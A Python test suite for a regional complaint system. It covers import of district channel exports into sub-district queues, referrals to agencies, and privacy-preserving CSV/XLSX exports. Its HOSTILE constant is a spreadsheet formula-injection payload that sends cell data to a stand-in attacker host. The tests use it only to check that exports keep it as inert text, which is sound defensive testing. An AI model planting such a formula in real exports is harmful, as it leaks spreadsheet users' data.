"""Hand-offs between the kabupaten and its kecamatan (issue 27, item 4).

Down: the kabupaten channel's export (CSV, XLSX) lands in each kecamatan's queue with
its reference, once however often it is imported; a bad file is refused in words and
stores nothing; an office imports only its own rows. Up: a "bukan wewenang" complaint
names where it goes (an OPD or the kabupaten's channel), the reporter is told in their
chat, and the kabupaten lists and exports every kecamatan's referrals without the
reporter, with a resident's formula kept as text.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from alembic import command
from httpx import Response
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, text
from sqlalchemy.exc import IntegrityError
from sqlmodel import Session, col, select
from starlette.testclient import TestClient

from bot.dialogs.desk import Desk
from bot.dialogs.types import ChatUser, Inbound
from bot.notifications import rendered
from core.config import Settings
from core.db import alembic_config, upgrade
from core.domain.complaints import Channel, ComplaintState, Privacy, ReferralKind
from core.domain.people import StaffRole
from core.errors import InvalidInput
from core.models import Complaint, ComplaintReferral, OutboxMessage
from core.scope import for_all_offices, for_office
from core.services.access.accounts import link_staff_account
from core.services.access.offices import add_office
from core.services.complaints import lifecycle as svc
from core.services.complaints.referrals import Destination, kabupaten_referrals
from tests import factories as f
from tests.cli_harness import sigap_on
from tests.web_harness import csrf_of, signed_in_as

NAME, PHONE = "Siti Rahayu", "081298765432"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik") PKL menutup trotoar'
CSV_HEADER = "Nomor,Tanggal Disposisi,Kecamatan,Kategori,Uraian,Desa\n"


@pytest.fixture
def offices(engine: Engine, settings: Settings) -> dict[str, int]:
    """Mumbulsari (office #1), Jombang and Kencong."""
    with Session(engine) as session:
        jombang = add_office(session, "35.09.01", "Kecamatan Jombang", "JBG", ("Jombang",))
        kencong = add_office(session, "35.09.02", "Kecamatan Kencong", "KCG", ("Kencong",))
        session.commit()
        return {"Mumbulsari": 1, "Jombang": jombang.id or 0, "Kencong": kencong.id or 0}


@pytest.fixture
def web_settings(settings: Settings, tmp_path: Path) -> Settings:
    return settings.model_copy(
        update={"media_dir": tmp_path, "kabupaten_channel_name": "Wadul Gus'e"}
    )


def _upload(client: TestClient, path: str, name: str, content: bytes) -> Response:
    csrf = csrf_of(client, path)
    answer: Response = client.post(
        path, data={"csrf": csrf}, files={"berkas": (name, content, "text/csv")}
    )
    return answer


def _imported(engine: Engine) -> list[tuple[int, str, str, str | None, date, int | None, str]]:
    with for_all_offices(Session(engine)) as session:
        rows = session.exec(
            select(Complaint)
            .where(Complaint.channel == Channel.KANAL_KABUPATEN)
            .order_by(col(Complaint.external_ref))
        ).all()
        return [
            (
                c.office_id or 0,
                c.external_ref or "",
                c.category,
                c.desa,
                c.due_date,
                c.reporter_id,
                c.privacy.value,
            )
            for c in rows
        ]


THREE = (
    CSV_HEADER
    + "WG-0001,02/11/2026,Mumbulsari,pkl,PKL berjualan di bahu jalan Lampeji,Lampeji\n"
    + "WG-0002,2026-11-02,kecamatan jombang,Parkir liar,Parkir liar di depan pasar Jombang,\n"
    + "WG-0003,2026-11-02,KEC. KENCONG,Jalan berlubang,Jalan desa berlubang dan tergenang,KENCONG\n"
)


def test_one_file_reaches_three_kecamatan_once(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    for client in signed_in_as(engine, web_settings, StaffRole.KABUPATEN_ADMIN, None):
        page = client.get("/kabupaten/limpahan")
        assert page.status_code == 200 and "tanggal disposisi" in page.text
        answer = _upload(client, "/kabupaten/limpahan", "wadul.csv", THREE.encode())
        assert answer.status_code == 303, answer.text
        done = client.get(answer.headers["location"]).text
        assert "3 pengaduan baru" in done and "Kecamatan Kencong: 1" in done
        again = _upload(client, "/kabupaten/limpahan", "wadul-lagi.csv", THREE.encode())
        assert "0 pengaduan baru" in client.get(again.headers["location"]).text
    # Monday 2 November + 5 working days (pkl, parkir) or 14 (lainnya, the unknown one)
    assert _imported(engine) == [
        (offices["Mumbulsari"], "WG-0001", "pkl", "Lampeji", date(2026, 11, 9), None, "hidden"),
        (offices["Jombang"], "WG-0002", "parkir", None, date(2026, 11, 9), None, "hidden"),
        (offices["Kencong"], "WG-0003", "lainnya", "Kencong", date(2026, 11, 20), None, "hidden"),
    ]
    for client in signed_in_as(engine, web_settings, StaffRole.TRANTIB, offices["Jombang"]):
        queue = client.get("/pengaduan").text
        codes = set(re.findall(r"JBG-[A-Z0-9]{4}-[A-Z0-9]{4}", queue))
        assert len(codes) == 1 and "Wadul Gus&#39;e" in queue  # the channel's own name
        ticket = codes.pop()
        page = client.get(f"/pengaduan/{ticket}").text
        assert "WG-0002" in page and "Wadul Gus&#39;e" in page
        found = client.get("/pengaduan?kode=WG-0002").text  # asked by the channel's number
        assert ticket in found and "WG-0001" not in found


def test_an_xlsx_export_with_other_headers_imports_from_the_command_line(
    database_url: str,
    engine: Engine,
    offices: dict[str, int],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(
        ["No. Laporan", "TGL DISPOSISI", "Nama Kecamatan", "Jenis Pengaduan", "Isi Laporan"]
    )
    sheet.append(
        [
            "WG-10",
            datetime(2026, 11, 3, 9, 30),
            "Jombang",
            "Sampah dan kebersihan",
            "Sampah menumpuk di pinggir sungai",
        ]
    )
    sheet.append(
        [
            "WG-11",
            datetime(2026, 11, 3),
            "Kencong",
            "KEBISINGAN",
            "Sound system keras sampai tengah malam",
        ]
    )
    path = tmp_path / "wadul.xlsx"
    book.save(path)
    invoke = sigap_on(database_url, tmp_path, monkeypatch)
    first = invoke("complaint", "import-channel", str(path))
    assert first.exit_code == 0, first.output
    assert "2 pengaduan baru" in first.output
    second = invoke("complaint", "import-channel", str(path))
    assert second.exit_code == 0 and "0 pengaduan baru" in second.output, second.output
    stored = {(o, ref, cat) for o, ref, cat, *_ in _imported(engine)}
    assert stored == {
        (offices["Jombang"], "WG-10", "sampah"),
        (offices["Kencong"], "WG-11", "kebisingan"),
    }
    own = invoke("complaint", "import-channel", str(path), "--office", "35.09.01")
    assert own.exit_code != 0 and "Baris 3, kolom kecamatan" in own.output, own.output


def test_a_bad_file_is_refused_in_words_and_stores_nothing(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    bad = (
        CSV_HEADER
        + "WG-1,2026-11-02,Mumbulsari,pkl,PKL berjualan di bahu jalan,\n"
        + "WG-2,2026-11-02,Atlantis,pkl,PKL berjualan di bahu jalan,\n"
        + "WG-3,31/02/2026,Jombang,pkl,PKL berjualan di bahu jalan,\n"
        + "WG-4,2026-11-02,Jombang,pkl,pendek,\n"
        + "WG-1,2026-11-03,Mumbulsari,pkl,PKL berjualan lagi di bahu jalan,\n"
        + "WG-6,2026-11-02,Kencong,pkl,PKL berjualan di bahu jalan,Suka Maju\n"
        + ",2026-11-02,Kencong,pkl,PKL berjualan di bahu jalan,\n"
    )
    for client in signed_in_as(engine, web_settings, StaffRole.KABUPATEN_ADMIN, None):
        answer = _upload(client, "/kabupaten/limpahan", "salah.csv", bad.encode())
        assert answer.status_code == 400
        words = answer.text
        assert "tidak ada yang disimpan" in words
        for expected in (
            "Baris 3, kolom kecamatan: tidak dikenal",
            "Baris 4, kolom tanggal",
            "Baris 5, kolom uraian: terlalu pendek",
            "Baris 6, kolom nomor: nomor yang sama sudah ada di baris 2",
            "Baris 7, kolom desa: bukan desa/kelurahan Kecamatan Kencong",
            "Baris 8, kolom nomor: kosong",
        ):
            assert expected in words, expected
        missing = _upload(client, "/kabupaten/limpahan", "x.csv", b"Nomor,Tanggal\nA,2026-11-02\n")
        assert "kolom kategori, uraian tidak ada" in missing.text
    assert _imported(engine) == []


def test_an_office_imports_its_own_rows_only(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    for client in signed_in_as(engine, web_settings, StaffRole.TRANTIB, offices["Jombang"]):
        refused = _upload(client, "/pengaduan/limpahan", "wadul.csv", THREE.encode())
        assert refused.status_code == 400
        assert (
            "Baris 2, kolom kecamatan: untuk Kecamatan Mumbulsari, bukan kantor ini" in refused.text
        )
        own = CSV_HEADER + "WG-0002,2026-11-02,Jombang,parkir,Parkir liar di depan pasar Jombang,\n"
        done = _upload(client, "/pengaduan/limpahan", "jombang.csv", own.encode())
        assert done.status_code == 303, done.text
    assert [(o, ref) for o, ref, *_ in _imported(engine)] == [(offices["Jombang"], "WG-0002")]
    for client in signed_in_as(engine, web_settings, StaffRole.PMKS, offices["Jombang"]):
        assert client.get("/pengaduan/limpahan").status_code == 403


def test_the_kabupaten_channel_reference_is_unique_per_office(
    engine: Engine, settings: Settings, offices: dict[str, int]
) -> None:
    """The index is the last guard (two imports at one moment); other channels' refs may
    repeat, as they may in data from before it."""
    data = svc.NewComplaint(
        Channel.SP4N_LAPOR, "pkl", "PKL di trotoar depan pasar", external_ref="L-1"
    )
    with for_office(Session(engine), 1) as session:
        svc.register_complaint(session, settings, data)
        svc.register_complaint(session, settings, data)
        session.commit()
        ours = svc.NewComplaint(
            Channel.KANAL_KABUPATEN, "pkl", "PKL di trotoar depan pasar", external_ref="WG-9"
        )
        svc.register_complaint(session, settings, ours)
        with pytest.raises(IntegrityError):
            svc.register_complaint(session, settings, ours)


def _reported(
    engine: Engine, settings: Settings, privacy: Privacy = Privacy.HIDDEN, account: str = "4242"
) -> str:
    with for_office(Session(engine), 1) as session:
        reporter = f.resident(session, account, name=NAME)
        reporter.phone = PHONE
        data = svc.NewComplaint(Channel.TELEGRAM, "pkl", HOSTILE, privacy=privacy)
        code = svc.register_complaint(session, settings, data, reporter=reporter).code
        session.commit()
    return code


def _news(engine: Engine) -> list[str]:
    with Session(engine) as session:
        sent = session.exec(
            select(OutboxMessage)
            .where(OutboxMessage.recipient == "4242")
            .order_by(col(OutboxMessage.id))
        ).all()
        return [rendered(m)[0] for m in sent]


def test_an_officer_refers_a_complaint_to_an_opd_from_the_complaint_page(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    code = _reported(engine, web_settings)
    for client in signed_in_as(engine, web_settings, StaffRole.TRANTIB, 1):
        page = client.get(f"/pengaduan/{code}").text
        assert 'name="tujuan" value="opd"' in page and "Kembalikan ke Wadul Gus&#39;e" in page
        csrf = csrf_of(client, f"/pengaduan/{code}")
        empty = client.post(f"/pengaduan/{code}/bukan_wewenang", data={"csrf": csrf, "opd": ""})
        assert empty.status_code == 400 and "Sebutkan instansi rujukan" in empty.text
        done = client.post(
            f"/pengaduan/{code}/bukan_wewenang",
            data={
                "csrf": csrf,
                "tujuan": "opd",
                "opd": "Dinas PU  Bina Marga",
                "catatan": "Jalan kabupaten",
            },
        )
        assert done.status_code == 303, done.text
        shown = client.get(f"/pengaduan/{code}").text
        assert "Dirujuk ke Dinas PU Bina Marga: Jalan kabupaten" in shown
    with for_office(Session(engine), 1) as session:
        complaint = svc.get_complaint(session, code)
        referral = session.exec(select(ComplaintReferral)).one()
        assert complaint.state is ComplaintState.BUKAN_WEWENANG
        assert (
            referral.complaint_id,
            referral.target_kind,
            referral.target_name,
            referral.note,
        ) == (complaint.id, ReferralKind.OPD, "Dinas PU Bina Marga", "Jalan kabupaten")
    news = _news(engine)[-1]
    assert code in news and "ditangani Dinas PU Bina Marga" in news and "Jalan kabupaten" in news


def test_an_officer_sends_a_complaint_back_to_the_kabupaten_from_the_chat(
    engine: Engine, settings: Settings, offices: dict[str, int]
) -> None:
    code = _reported(engine, settings)
    officer = ChatUser("terminal", "budi", "budi", "Budi")
    with for_office(Session(engine), 1) as session:
        link_staff_account(session, f.staff(session), "terminal", "budi")
        earlier = f.complaint(session, settings)  # an earlier referral: offered as a button
        svc.transition_complaint(
            session,
            earlier,
            ComplaintState.BUKAN_WEWENANG,
            staff=f.staff(session, name="Ani"),
            destination=Destination.opd("Dinas Perhubungan"),
        )
        complaint_id = svc.get_complaint(session, code).id
        session.commit()

    def say(message: Inbound) -> list[str]:
        with Session(engine) as session:
            handled = Desk(settings).handle(session, officer, message)
            session.commit()
        return [str(m.text) for m in handled.queued]

    asked = say(Inbound("choice", choice=f"act:refer:{complaint_id}"))
    assert "dirujuk ke mana" in asked[-1]
    with Session(engine) as session:
        buttons = session.exec(select(OutboxMessage).where(OutboxMessage.recipient == "budi")).all()
        assert "Dinas Perhubungan" in (buttons[-1].markup or "")
    say(Inbound("choice", choice="refer:where:@kabupaten"))
    done = say(Inbound("choice", choice="refer:note:@skip"))
    assert "dirujuk ke Kanal pengaduan kabupaten" in done[-1]
    with for_office(Session(engine), 1) as session:
        referral = session.exec(
            select(ComplaintReferral).where(ComplaintReferral.complaint_id == complaint_id)
        ).one()
        assert (referral.target_kind, referral.target_name) == (
            ReferralKind.KABUPATEN,
            "Kanal pengaduan kabupaten",
        )
    news = _news(engine)[-1]
    assert code in news and "merujuknya ke Kanal pengaduan kabupaten" in news


def test_a_note_alone_still_names_the_agency(
    engine: Engine, settings: Settings, offices: dict[str, int]
) -> None:
    """As before referrals were recorded (e.g. `sigap complaints transition` of old
    scripts): the note is the instansi rujukan, recorded as the OPD."""
    with for_office(Session(engine), 1) as session:
        item = f.complaint(session, settings)
        svc.transition_complaint(
            session,
            item,
            ComplaintState.BUKAN_WEWENANG,
            staff=f.staff(session),
            note="Polsek Mumbulsari",
        )
        with pytest.raises(InvalidInput, match="Perlu instansi rujukan"):
            svc.transition_complaint(
                session,
                f.complaint(session, settings),
                ComplaintState.BUKAN_WEWENANG,
                staff=f.staff(session, name="Ani"),
            )
        session.rollback()


def test_the_kabupaten_lists_and_exports_referrals_without_the_reporter(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    code = _reported(engine, web_settings)
    secret = _reported(engine, web_settings, Privacy.RAHASIA, account="4343")
    with for_office(Session(engine), 1) as session:
        officer = f.staff(session)
        for ticket, where, note in (
            (code, "Dinas PU Bina Marga", "=1+1 tolong ditindaklanjuti"),
            (secret, "Dinas Sosial", "Isi rahasia diulang di catatan"),
        ):
            svc.transition_complaint(
                session,
                svc.get_complaint(session, ticket),
                ComplaintState.BUKAN_WEWENANG,
                staff=officer,
                note=note,
                destination=Destination.opd(where),
            )
        session.commit()
    for client in signed_in_as(engine, web_settings, StaffRole.BUPATI, None):
        page = client.get("/kabupaten/rujukan")
        assert page.status_code == 200
        assert code in page.text and "Kecamatan Mumbulsari" in page.text
        assert "Dinas PU Bina Marga" in page.text and "HYPERLINK" in page.text
        assert "HYPERLINK(&#34;http://evil" in page.text  # escaped, as every page
        assert NAME not in page.text and PHONE not in page.text
        assert "uraian tidak ditampilkan" in page.text  # the rahasia one
        assert "Isi rahasia" not in page.text  # nor its note, which may repeat it
        only_opd = client.get("/kabupaten/rujukan?tujuan=kabupaten").text
        assert code not in only_opd
        exported = client.get("/kabupaten/rujukan.csv")
        assert exported.status_code == 200
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert rows[0][:3] == ["kecamatan", "kode_kecamatan", "nomor_tiket"]
        line = next(r for r in rows if r[2] == code)
        assert line[-1].startswith("'=HYPERLINK") and line[-2].startswith("'=1+1")
        assert not any(NAME in c or PHONE in c for r in rows for c in r)
        sheet = load_workbook(io.BytesIO(client.get("/kabupaten/rujukan.xlsx").content)).active
        assert sheet is not None
        cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value}
        hostile = cells[HOSTILE]
        assert hostile.data_type == "s" and hostile.quotePrefix  # text, never a formula
        assert not any(NAME in str(v) or PHONE in str(v) for v in cells)
        assert client.get("/kabupaten/limpahan").status_code == 403  # the Bupati reads only
        forged = client.post(
            "/kabupaten/limpahan", data={"csrf": csrf_of(client, "/kabupaten/rujukan")}
        )
        assert forged.status_code == 403
    with for_all_offices(Session(engine)) as session:
        assert {line.code for line in kabupaten_referrals(session)} == {code, secret}


def test_an_office_cannot_reach_the_kabupaten_hand_off_pages(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    for client in signed_in_as(engine, web_settings, StaffRole.ADMIN, 1):
        for path in ("/kabupaten/limpahan", "/kabupaten/rujukan", "/kabupaten/rujukan.csv"):
            assert client.get(path).status_code == 403, path
        csrf = csrf_of(client, "/pengaduan")
        answer = client.post(
            "/kabupaten/limpahan",
            data={"csrf": csrf},
            files={"berkas": ("w.csv", THREE.encode(), "text/csv")},
        )
        assert answer.status_code == 403
    assert _imported(engine) == []


def test_0020_adds_referrals_and_the_unique_reference(empty_engine: Engine) -> None:
    upgrade(empty_engine, "0019")
    with empty_engine.begin() as connection:  # office #1, as migration 0014 made it
        for n in (1, 2):  # an SP4N-LAPOR! number recorded twice before 0020: allowed still
            connection.execute(
                text(
                    "INSERT INTO complaint (office_id, code, channel, category, description,"
                    " privacy, state, external_ref, received_at, due_date)"
                    f" VALUES (1, 'JBG-AAAA-AAA{n}', 'sp4n-lapor', 'pkl', 'PKL di trotoar',"
                    " 'hidden', 'diterima', 'L-1', '2026-01-01', '2026-01-08')"
                )
            )
    upgrade(empty_engine, "0020")
    insert = text(
        "INSERT INTO complaint (office_id, code, channel, category, description, privacy,"
        " state, external_ref, received_at, due_date) VALUES (1, :code, 'kanal-kabupaten',"
        " 'pkl', 'PKL di trotoar', 'hidden', 'diterima', 'WG-1', '2026-01-01', '2026-01-08')"
    )
    with empty_engine.begin() as connection:
        connection.execute(insert, {"code": "JBG-BBBB-BBB1"})
    with pytest.raises(IntegrityError), empty_engine.begin() as connection:
        connection.execute(insert, {"code": "JBG-BBBB-BBB2"})
    with pytest.raises(RuntimeError, match="kanal kabupaten"):
        command.downgrade(alembic_config(empty_engine), "0019")
    with empty_engine.begin() as connection:
        connection.execute(text("DELETE FROM complaint WHERE channel = 'kanal-kabupaten'"))
    command.downgrade(alembic_config(empty_engine), "0019")
    upgrade(empty_engine)
    with empty_engine.connect() as connection:
        assert connection.execute(text("SELECT count(*) FROM complaintreferral")).scalar() == 0


def test_a_running_number_column_is_never_taken_for_the_reference(
    engine: Engine, web_settings: Settings, offices: dict[str, int]
) -> None:
    """Found by the attack review: "No" (1, 2, 3 ...) was read as the channel's reference,
    and next month's file, numbered 1, 2, 3 again, was skipped as already there."""
    header = "No,Nomor,Tanggal,Kecamatan,Kategori,Uraian\n"
    march = "1,WG-0301,2026-11-02,Mumbulsari,pkl,Pedagang menutup trotoar depan pasar\n"
    april = "1,WG-0401,2026-11-03,Mumbulsari,pkl,Pedagang lagi menutup trotoar pasar\n"
    for client in signed_in_as(engine, web_settings, StaffRole.KABUPATEN_ADMIN, None):
        for name, month in (("maret.csv", march), ("april.csv", april)):
            answer = _upload(client, "/kabupaten/limpahan", name, (header + month).encode())
            assert "1 pengaduan baru" in client.get(answer.headers["location"]).text
        both = (header.replace("No,", "Nomor Laporan,") + march).encode()
        refused = _upload(client, "/kabupaten/limpahan", "dua.csv", both)
        assert refused.status_code == 400 and "sama-sama dibaca sebagai nomor" in refused.text
    assert [r[1] for r in _imported(engine)] == ["WG-0301", "WG-0401"]
